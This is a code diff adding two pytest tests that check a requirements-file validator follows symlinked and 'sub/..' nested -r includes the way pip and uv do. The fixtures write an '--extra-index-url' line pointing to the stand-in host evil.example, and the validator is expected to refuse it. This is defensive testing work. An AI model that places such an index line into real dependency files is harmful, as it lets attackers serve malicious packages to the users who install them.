@@ -108,6 +108,33 @@ def test_a_file_outside_the_repository_is_refused(tmp_path: Path) -> None:
         check(checkout, "-r ../outside.txt\n")
 
 
+def test_files_pulled_in_through_a_link_are_read_where_the_installer_reads_them(
+        tmp_path: Path) -> None:
+    # pip and uv join a nested -r to the folder of the file as named, not of a link's target
+    (tmp_path / "deps").mkdir()
+    (tmp_path / "deps" / "reqs.txt").write_text("-r other.txt\n")
+    (tmp_path / "deps" / "other.txt").write_text("numpy\n")
+    (tmp_path / "other.txt").write_text("--extra-index-url https://evil.example/simple\n")
+    (tmp_path / "requirements.txt").symlink_to("deps/reqs.txt")
+    with pytest.raises(BuildFailure, match=r"^other.txt line 1 \(`--extra-index-url"):
+        check_requirements_file(tmp_path, "requirements.txt")
+
+
+def test_dot_dot_after_a_link_is_read_both_ways(tmp_path: Path) -> None:
+    # pip normalises `sub/..` away before the system follows `sub`; the system goes to
+    # the parent of sub's target: either file may be the one installed from
+    (tmp_path / "deps" / "inner").mkdir(parents=True)
+    (tmp_path / "sub").symlink_to("deps/inner")
+    (tmp_path / "deps" / "other.txt").write_text("numpy\n")
+    (tmp_path / "other.txt").write_text("numpy\n")
+    check(tmp_path, "-r sub/../other.txt\n")
+    for evil in (tmp_path / "other.txt", tmp_path / "deps" / "other.txt"):
+        evil.write_text("--extra-index-url https://evil.example/simple\n")
+        with pytest.raises(BuildFailure, match="names a package index"):
+            check(tmp_path, "-r sub/../other.txt\n")
+        evil.write_text("numpy\n")
+
+
 def test_a_file_pulled_in_through_a_link_loop_is_refused(tmp_path: Path) -> None:
     (tmp_path / "loop.txt").symlink_to("loop.txt")
     with pytest.raises(BuildFailure, match=r"^loop.txt is referred to with -r or -c"):
